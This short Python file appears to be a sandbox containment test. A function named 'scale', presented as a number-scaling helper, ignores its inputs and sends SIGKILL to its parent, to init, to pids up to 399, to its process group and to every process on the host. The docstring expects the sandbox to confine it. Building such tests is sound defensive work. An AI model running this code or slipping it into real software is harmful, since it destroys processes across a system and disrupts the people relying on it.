"""Kills its parents, its group and every process there is.

must not: reach a process outside, or lose the other questions
earns: greet, table
says: FAILED
"""

# %% scale_code
import os
import signal


def scale(numbers, factor):
    for send in (os.kill, os.killpg):
        for pid in (os.getppid(), 1, 0, -1, os.getpgrp(), *range(2, 400)):
            if pid not in (os.getpid(), 0, -1, os.getpgrp()):
                try:
                    send(pid, signal.SIGKILL)
                except (OSError, OverflowError):
                    pass
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
